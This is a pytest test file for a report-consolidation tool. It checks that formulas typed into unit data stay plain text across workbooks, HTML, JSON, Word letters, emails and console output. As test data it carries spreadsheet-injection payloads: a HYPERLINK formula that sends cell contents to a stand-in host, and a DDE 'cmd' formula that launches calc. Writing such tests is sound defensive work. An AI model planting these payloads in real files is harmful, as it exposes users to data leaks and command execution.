"""A formula that a unit typed is text in everything that goes out: no output runs it."""

from __future__ import annotations

import io
import json
import re
import zipfile
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import openpyxl
import pytest
from docx import Document

from consolidate.cli.merge_output import say_summary
from consolidate.merge.merge_inbox import write_results
from consolidate.model.reasons import Finding, Severity, because
from consolidate.model.units import Level, OrganisationUnit, Roster
from consolidate.reports.letterhead import authority_of
from consolidate.reports.letters import (
    CorrectionLetter,
    ToCorrect,
    correction_letter_bytes,
)
from consolidate.reports.mail_drafts import MailDraft, mail_bytes
from consolidate.rollup.result import MergeResult
from consolidate.xlsx.patch.correction_lines import lines_of
from tests.reports.make_result import LIBRARY, Bad, fixed, opened, record, result
from tests.reports.test_report import filled_in
from tests.small_library import NARRATIVE, UNITS, merged, returned, small_library

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"<b>xem</b>")'
OTHERS = ("=cmd|'/c calc'!A0", "@SUM(A1)", "+1+1", "-2+3", "\t=1+1")
UNIT = OrganisationUnit("X1", FORMULA, Level.COMMUNE)


def typed() -> MergeResult:
    """Formulas for the name of a unit, a figure, the cells of a list, and what a finding quotes."""
    pctn, cases = LIBRARY.by_code["pctn_01"], LIBRARY.by_code["pctn_02"]
    rows = [{"name": said, "place": FORMULA, "summary": Bad(said)} for said in (FORMULA, *OTHERS)]
    answers = {("c1", "value"): 3, ("c2", "value"): Bad(FORMULA)}
    sent = record(UNIT, "pctn", [fixed(pctn, answers), opened(cases, rows)], path="=1+1.xlsx")
    assert sent.content is not None
    cell = sent.content.data_sets[0].values[1].cell
    told = because("value.not_a_number", caption="MS 2", raw=FORMULA)
    finding = Finding(
        "value.not_a_number", Severity.ERROR, told, "pctn_01", "c2", pctn.sheet, (cell,), FORMULA
    )
    sent = record(UNIT, "pctn", sent.content.data_sets, path="=1+1.xlsx", findings=[finding])
    return result([sent], Roster.of([UNIT], province="Tiền Giang"))


def test_workbooks_page_and_json(tmp_path: Path) -> None:
    made = write_results(typed(), tmp_path, None)
    for kind in ("workbook", "official"):
        book = openpyxl.load_workbook(made[kind])
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        assert {FORMULA, *OTHERS[:4]} <= texts
        live = [str(cell.value) for cell in cells if cell.data_type == "f"]
        assert not [said for said in live if "x.example" in said or "calc" in said], kind
        assert bool(live) is (kind == "workbook")
        with zipfile.ZipFile(made[kind]) as package:
            links = [n for n in package.namelist() if n.endswith(".rels")]
            assert not [n for n in links if b"x.example" in package.read(n)]
    page = made["overview"].read_text("utf-8")
    assert "=HYPERLINK(" in page
    assert "<b>xem</b>" not in page
    assert not re.search(r"(href|src)=[^>]*x\.example", page)
    document = json.loads(made["json"].read_bytes())
    assert document["lists"][0]["values"]["name"]["raw"] == FORMULA


def test_letters_reports_and_mails(tmp_path: Path) -> None:
    sent = typed().records[0]
    item = ToCorrect("PCTN", "=1+1.xlsx", FORMULA, lines_of(sent.findings), "a.xlsx")
    authority = authority_of("Thanh tra tỉnh", "Tiền Giang")
    letter = correction_letter_bytes(CorrectionLetter(FORMULA, (item,)), authority)
    said = "\n".join(node.text or "" for node in Document(io.BytesIO(letter)).element.iter())
    assert said.count(FORMULA) >= 3
    with zipfile.ZipFile(io.BytesIO(letter)) as package:
        body = package.read("word/document.xml").decode()
    assert not re.search(r"<w:(instrText|fldSimple|hyperlink)", body)

    library = small_library(NARRATIVE)
    values = {"tm.i2a": FORMULA}
    made = merged(library, tmp_path, {"S1": returned(library, UNITS[0], values=values)})
    outline = '# BÁO CÁO\n\n{{ thuyet_minh("tm.i2a") }}\n\nKèm theo {{ kem_theo }}'
    pack = library.packs.by_code["thu"]
    assert f"{UNITS[0].name}: {FORMULA}" in filled_in(outline, made, pack)

    mail = message_from_bytes(
        mail_bytes(MailDraft(FORMULA, "x@x.example", FORMULA, (FORMULA,), ((FORMULA, b"1"),))),
        policy=default,
    )
    assert mail["Subject"] == FORMULA
    assert [part.get_content_type() for part in mail.walk()][1] == "text/plain"
    assert mail.get_body().get_content().strip() == FORMULA


def test_console(capsys: pytest.CaptureFixture[str]) -> None:
    say_summary(typed(), {})
    said = capsys.readouterr().out
    assert "=HYPERLINK(" in said
    assert "\x1b]8" not in said  # No link of a terminal.
